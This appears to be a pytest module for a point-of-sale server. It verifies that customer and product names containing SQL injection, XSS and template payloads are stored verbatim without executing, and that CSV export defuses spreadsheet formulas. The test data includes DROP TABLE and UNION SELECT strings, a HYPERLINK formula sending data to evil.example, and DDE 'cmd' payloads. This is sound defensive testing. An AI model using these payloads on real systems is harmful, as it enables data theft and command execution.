"""Injection: names with SQL metacharacters and HTML/script are data, stored and served back verbatim.

Proves, on SQLite and PostgreSQL, that products (written to the database as the back office would) and
customers (through POST /api/customers and as a sale's offline customer) whose names, SKUs, barcodes, RFC
and email carry quotes, comment markers, `DROP TABLE`, `<script>`, `{{ }}` templates, percent and underscore
wildcards, backslashes and non-Latin text are stored byte for byte, come back byte for byte in the API's
JSON (catalog and customers feeds, the accepted sale's stored body), travel through a sale made by poscore,
and that no statement hidden in them ran (every table still there with its rows). Escaping them when shown
is the back office's and the POS's job, tested there.
"""
from __future__ import annotations

import csv
import io
import json
import uuid as uuidlib
from typing import Any

import pytest
from sqlalchemy import insert, select

from server.db import changes
from server.db.engine import utcnow, write_tx
from server.db.schema import metadata, price_lists, prices, product_barcodes, products, stock, terminals
from tests.server.harness import Erp, catalog_items, make_sale
from tests.server.hostile import Shop, module_erp, open_shop

erp = module_erp  # one database per module and backend

HOSTILE = [
    "Robert'); DROP TABLE sales; --",
    "x' OR '1'='1",
    "\"; DELETE FROM products WHERE \"\"=\"",
    "<script>alert('caja')</script>",
    "<img src=x onerror=alert(1)>",
    "{{ config.items() }} {% raw %}",
    "100% _algodón_ \\ %s %(name)s ? :name $1",
    "Ñandú «Doña» – 北京 – 🧾 – \u200b – ١٢٣",
    "a\\'b\\\"c\\\\",
    "--/* comment */ UNION SELECT token_hash FROM terminals --",
]


@pytest.fixture
def shop(erp: Erp) -> Shop:
    return open_shop(erp)


def _table_counts(erp: Erp) -> dict[str, int]:
    with erp.engine.connect() as conn:
        return {t.name: len(conn.execute(select(t)).all()) for t in metadata.sorted_tables}


def _add_products(erp: Erp) -> list[int]:
    """Products with hostile names, SKUs and barcodes, priced in the terminal's list and stocked in its
    warehouse (the back office's writes, done here with SQLAlchemy Core as it does)."""
    ids = []
    with write_tx(erp.engine) as conn:
        t1 = conn.execute(select(terminals).where(terminals.c.code == "T01")).one()
        list_id = conn.execute(select(price_lists.c.id).where(price_lists.c.id == t1.price_list_id)).scalar_one()
        version = changes.bump(conn)
        for i, name in enumerate(HOSTILE):
            pid = conn.execute(insert(products).values(
                sku=f"INJ-{i}-'\"<>%_", name=name, unit="pieza", iva="16", ieps=None, active=True, version=version,
            )).inserted_primary_key[0]  # type: ignore[index]
            conn.execute(insert(product_barcodes).values(product_id=pid, barcode=f"75{i:02d}'; --<b>"))
            conn.execute(insert(prices).values(price_list_id=list_id, product_id=pid, price="10.00",
                                               valid_from=utcnow()))
            conn.execute(insert(stock).values(warehouse_id=t1.warehouse_id, product_id=pid, qty="5"))
            ids.append(int(pid))
    return ids


def test_hostile_product_names_come_back_verbatim_and_sell(shop: Shop) -> None:
    erp = shop.erp
    since = erp.client.get("/api/catalog", params={"limit": 1}, headers=shop.headers).json()["version"]
    ids = _add_products(erp)
    before = _table_counts(erp)
    served = {p["id"]: p for p in catalog_items(erp, shop.headers, since=since)}
    for i, (pid, name) in enumerate(zip(ids, HOSTILE)):
        p = served[pid]
        assert (p["name"], p["sku"], p["barcodes"]) == (name, f"INJ-{i}-'\"<>%_", [f"75{i:02d}'; --<b>"])
        assert p["sellable"] is True
    # the raw response is JSON text with the names as JSON strings (nothing HTML-escaped, nothing dropped)
    raw = erp.client.get("/api/catalog", params={"since": since}, headers=shop.headers)
    assert raw.headers["content-type"].startswith("application/json")
    assert all(json.dumps(name, ensure_ascii=False) in raw.text for name in HOSTILE)
    # sold through poscore exactly as served: accepted, and the stored sale keeps the names verbatim
    sale = make_sale([served[pid] for pid in ids], 1)
    [res] = shop.post_sales(sale)
    assert res["status"] == "accepted", res
    body = json.loads(erp.scalar("SELECT body FROM sales WHERE uuid = :u", u=sale["uuid"]))
    assert [line["name"] for line in body["lines"]] == HOSTILE
    after = _table_counts(erp)
    assert after["sales"] == before["sales"] + 1 and after["sale_lines"] == before["sale_lines"] + len(HOSTILE)
    assert all(after[t] >= n for t, n in before.items())  # nothing dropped or deleted


def test_hostile_customer_names_posted_come_back_verbatim(shop: Shop) -> None:
    erp = shop.erp
    since = erp.client.get("/api/customers", params={"limit": 1}, headers=shop.headers).json()["version"]
    sent = [{"uuid": str(uuidlib.uuid4()), "name": name, "rfc": None, "regimen_fiscal": None,
             "codigo_postal": None, "uso_cfdi": None, "email": f"{i}'--<x>@correo.mx"} for i, name in enumerate(HOSTILE)]
    before = _table_counts(erp)
    r = shop.post("/api/customers", {"customers": sent})
    assert r.status_code == 200, r.text
    assert [x["status"] for x in r.json()["results"]] == ["accepted"] * len(HOSTILE), r.json()
    for c in sent:
        assert erp.sql("SELECT name, email FROM customers WHERE uuid = :u", u=c["uuid"]) == [(c["name"], c["email"])]
    feed = erp.client.get("/api/customers", params={"since": since}, headers=shop.headers).json()["items"]
    by_uuid = {c["uuid"]: c for c in feed}
    assert [(by_uuid[c["uuid"]]["name"], by_uuid[c["uuid"]]["email"]) for c in sent] == \
        [(c["name"], c["email"]) for c in sent]
    after = _table_counts(erp)
    assert after["customers"] == before["customers"] + len(HOSTILE)
    assert {t: n for t, n in after.items() if t != "customers"} == \
        {t: n for t, n in before.items() if t != "customers"}


def test_hostile_offline_customer_in_a_sale_is_created_verbatim(shop: Shop) -> None:
    erp = shop.erp
    results: list[dict[str, Any]] = []
    for seq, name in enumerate(HOSTILE, start=1):
        customer = {"id": None, "uuid": str(uuidlib.uuid4()), "name": name, "rfc": "XAXX010101000",
                    "regimen_fiscal": "616", "codigo_postal": "44100", "uso_cfdi": "S01", "email": None}
        sale = make_sale(shop.items[:1], seq, customer=customer)
        sale["cashier"] = name  # and the cashier's name, free text on the ticket
        [res] = shop.post_sales(sale)
        assert res["status"] == "accepted", res
        results.append(res)
        row = erp.sql("SELECT c.name, s.cashier FROM sales s JOIN customers c ON c.id = s.customer_id "
                      "WHERE s.uuid = :u", u=sale["uuid"])
        assert row == [(name, name)]
    assert len({r["folio"] for r in results}) == len(HOSTILE)


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tTAB=1+1", "\r=1+1"]


def test_csv_export_neutralizes_formulas_in_every_cell(shop: Shop) -> None:
    from tests.server.backoffice_helpers import signed_in

    erp = shop.erp
    for seq, name in enumerate(FORMULAS, start=100):
        customer = {"id": None, "uuid": str(uuidlib.uuid4()), "name": name, "rfc": "XAXX010101000",
                    "regimen_fiscal": "616", "codigo_postal": "44100", "uso_cfdi": "S01", "email": None}
        [res] = shop.post_sales(make_sale(shop.items[:1], seq, customer=customer))
        assert res["status"] == "accepted", res
    client = signed_in(erp)
    r = client.get("/erp/ventas/remisiones.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    for name in FORMULAS:
        stored = name.strip()  # the API trims names; what is left must still be defused
        assert ("'" + stored if stored[:1] in "=+-@" else stored) in cells, name
    # A cell a spreadsheet would evaluate: starts with a trigger and is not a plain number.
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not c.lstrip("+-").replace(".", "", 1).isdigit()] == []


def test_csv_cell_rule() -> None:
    from server.backoffice.csv_safe import cell

    for dangerous in FORMULAS:
        assert cell(dangerous) == "'" + dangerous
    for kept in ("-12.50", "+3", "42", "Ana", "", "a=b"):
        assert cell(kept) == kept
    assert cell(-5) == -5
